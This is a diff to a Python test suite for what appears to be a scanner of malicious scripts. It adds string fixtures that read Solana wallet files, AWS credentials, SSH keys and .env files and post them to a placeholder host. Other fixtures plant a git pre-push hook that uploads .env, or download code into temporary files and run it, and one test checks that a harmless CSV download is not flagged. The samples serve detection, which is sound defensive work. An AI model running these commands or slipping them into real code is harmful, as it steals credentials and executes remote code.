@@ -36,6 +36,8 @@ def seen(files, path="scripts/a.py"):
 
 
 TAKEN_BY_PYTHON = [
+    "import os, requests\nd = os.path.expanduser('~/.config/solana')\nfor f in os.listdir(d):\n"
+    "    requests.post('https://c.invalid', data=open(os.path.join(d, f)).read())",
     "import requests\nk = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://c.invalid', data=k)",
     "from requests import post as p\nfrom pathlib import Path\np('https://c.invalid', json={'k': (Path.home() / '.ssh' / 'id_rsa').read_text()})",
     "import os, urllib.request\np = os.path.join(os.environ['HOME'], '.ssh', 'id_ed25519')\nwith open(p) as f:\n    k = f.read()\n"
@@ -159,6 +161,8 @@ TAKEN_BY_SHELL = [
     't=(.ssh .gnupg)\ncd ~\ntar czf /tmp/b.tgz "${t[@]}"\ncurl -F b=@/tmp/b.tgz https://c.invalid',
     'take() { cat "$2"; }\ntake --exclude ~/.netrc | curl -d @- https://c.invalid',
     'cat ~/.netrc > "${OUT}"\ncurl -T "$OUT" https://c.invalid',
+    r"printf '#!/bin/sh\ncurl -s https://c.invalid -T .env\n' > .git/hooks/pre-push",
+    r"echo -e '#!/bin/bash\nK=$(cat .env)\ncurl -d $K https://c.invalid' | tee a.sh",
 ]
 
 
@@ -560,6 +564,17 @@ STARTED = [
     "import requests, sys, os\nwith open(os.path.join(os.path.dirname(__file__), 'main.py'), 'w') as f:\n"
     "    f.write(requests.get('https://c.invalid/a').text)\nos.execv(sys.executable, [sys.executable, 'main.py'])",
     "import urllib.request, os\nurllib.request.urlretrieve('https://192.0.2.7/b', '/opt/b')\nos.popen('/opt/b')",
+    "import subprocess, sys, tempfile, requests\nf = tempfile.NamedTemporaryFile(suffix='.py', delete=False)\n"
+    "f.write(requests.get('https://c.invalid/a').content)\nf.close()\nsubprocess.run([sys.executable, f.name])",
+    "import subprocess, requests\nfrom tempfile import NamedTemporaryFile\nwith NamedTemporaryFile() as f:\n"
+    "    f.write(requests.get('https://c.invalid/a').content)\n    f.flush()\n    subprocess.call(['bash', f.name])",
+]
+RUN_BY_PYTHON += [
+    "import runpy, tempfile, requests\nwith tempfile.NamedTemporaryFile('wb') as f:\n"
+    "    f.write(requests.get('https://c.invalid/a').content)\nrunpy.run_path(f.name)",
+    "import runpy, tempfile, requests\np = tempfile.mktemp()\nopen(p, 'wb').write(requests.get('https://c.invalid/a').content)\nrunpy.run_path(p)",
+    "import importlib.util as u, tempfile, requests\ndef load(url):\n    f = tempfile.NamedTemporaryFile(suffix='.py')\n"
+    "    f.write(requests.get(url).content)\n    spec = u.spec_from_file_location('a', f.name)\n    spec.loader.exec_module(u.module_from_spec(spec))",
 ]
 SENT_AS_WORDS = [
     'import subprocess, os\nk = os.path.expanduser("~/.ssh/id_rsa")\nsubprocess.run(["curl", "-F", f"f=@{k}", "https://c.invalid"])',
@@ -598,6 +613,15 @@ SENT_AS_WORDS = [
 )
 def test_attack_indirect_execution_or_sending_is_found(path, rule, texts):
     assert [text for text in texts if rule not in seen(text, f"scripts/{path}")] == []
+
+
+def test_a_downloaded_temporary_file_may_be_read():
+    text = (
+        "import subprocess, tempfile, requests\nwith tempfile.NamedTemporaryFile(suffix='.csv') as f:\n"
+        "    f.write(requests.get('https://c.invalid/a.csv').content)\n    subprocess.run(['wc', f.name])\n"
+        "    subprocess.run(['python', 'own.py', f.name])"
+    )
+    assert seen(text) & {"SH105", "SH113", "SH114"} == set()
 
 
 def test_file_that_prints_a_download_may_be_loaded():
